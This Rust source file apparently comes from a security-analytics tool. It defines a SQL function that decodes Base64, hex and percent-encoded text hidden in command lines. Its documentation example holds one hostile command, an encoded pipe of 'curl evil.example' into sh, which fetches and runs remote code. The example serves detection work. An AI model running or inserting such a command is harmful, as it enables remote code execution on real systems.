//! Decodes text that a command line hides by encoding.

use base64::Engine;
use base64::alphabet;
use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
use datafusion::logical_expr::{DocSection, Documentation};
use percent_encoding::percent_decode_str;

use super::strings::{Body, StringFunction};

const SECTION: DocSection =
    DocSection { include: true, label: "Command Functions", description: None };

/// The maximum depth of nested encodings.
const DEPTH: usize = 3;

/// The minimum length of a run to decode; shorter runs of letters and digits are words.
const SHORTEST: usize = 16;

/// The minimum length of a run with padding or after `\x`, which marks it as encoded.
const SHORTEST_MARKED: usize = 8;

const CONFIG: GeneralPurposeConfig = GeneralPurposeConfig::new()
    .with_decode_padding_mode(DecodePaddingMode::Indifferent)
    .with_decode_allow_trailing_bits(true);
const STANDARD: GeneralPurpose = GeneralPurpose::new(&alphabet::STANDARD, CONFIG);
const URL_SAFE: GeneralPurpose = GeneralPurpose::new(&alphabet::URL_SAFE, CONFIG);

pub(super) fn decode_command() -> StringFunction {
    let documentation = Documentation::builder(
        SECTION,
        "Decodes the text that a command line contains in Base64 (including UTF-16, as PowerShell uses it), hexadecimal or \
         percent encoding, up to three levels deep; several texts are joined by line feeds. Null if it contains none.",
        "decode_command(text)",
    )
    .with_argument("text", "a command line")
    .with_sql_example(
        "decode_command('echo Y3VybCBldmlsLmV4YW1wbGUgfCBzaA== | base64 -d | sh') = 'curl evil.example | sh'",
    )
    .build();
    let body = Body::Text(|arguments| {
        let [text] = arguments else { return Ok(None) };
        Ok(decode(text, DEPTH))
    });
    StringFunction::new("decode_command", body, documentation)
}

fn decode(text: &str, depth: usize) -> Option<String> {
    let is_word = |c: char| c.is_ascii_alphanumeric() || "+/=-_%\\".contains(c);
    let found = text.split(|c| !is_word(c)).filter_map(word);
    // The decoded text may be encoded again.
    let found = found
        .map(|text| depth.checked_sub(1).and_then(|depth| decode(&text, depth)).unwrap_or(text));
    let found: Vec<_> = found.collect();
    (!found.is_empty()).then(|| found.join("\n"))
}

fn word(word: &str) -> Option<String> {
    percent(word).or_else(|| hexadecimal(word)).or_else(|| base64(word))
}

fn percent(word: &str) -> Option<String> {
    let decoded = percent_decode_str(word).decode_utf8().ok()?;
    (decoded != word && is_text(&decoded)).then(|| decoded.into_owned())
}

/// Decodes `6375726c…`, `0x6375726c…` or `\x63\x75\x72\x6c…`.
fn hexadecimal(word: &str) -> Option<String> {
    let (digits, shortest) = if word.contains("\\x") {
        (word.replace("\\x", ""), SHORTEST_MARKED)
    } else {
        (word.trim_start_matches("0x").to_owned(), SHORTEST)
    };
    if digits.len() < shortest || !digits.len().is_multiple_of(2) {
        return None;
    }
    let pairs = digits.as_bytes().chunks(2).map(|pair| {
        let pair = std::str::from_utf8(pair).ok().filter(|pair| !pair.starts_with('+'))?;
        u8::from_str_radix(pair, 16).ok()
    });
    text(pairs.collect::<Option<_>>()?)
}

fn base64(word: &str) -> Option<String> {
    // An option or an assignment may precede it: `--data=…`, `X=…`.
    let body = word.trim_end_matches('=');
    let start = body.rfind('=').map_or(0, |at| at + 1);
    let word = word.get(start..)?.trim_start_matches('-');
    let shortest = if word.ends_with('=') { SHORTEST_MARKED } else { SHORTEST };
    if word.len() < shortest {
        return None;
    }
    let bytes = STANDARD.decode(word).or_else(|_| URL_SAFE.decode(word)).ok()?;
    text(bytes)
}

/// Converts bytes to text, as UTF-8 or else UTF-16.
fn text(bytes: Vec<u8>) -> Option<String> {
    // In UTF-16, ASCII uses every other byte.
    let text = if bytes.len().is_multiple_of(2)
        && bytes.iter().skip(1).step_by(2).all(|byte| *byte == 0)
    {
        String::from_utf8(bytes.into_iter().step_by(2).collect()).ok()?
    } else {
        String::from_utf8(bytes).ok()?
    };
    is_text(&text).then_some(text)
}

/// Returns whether a text is printable; random bytes almost never are.
fn is_text(text: &str) -> bool {
    !text.is_empty() && text.chars().all(|c| !c.is_control() || matches!(c, '\n' | '\r' | '\t'))
}
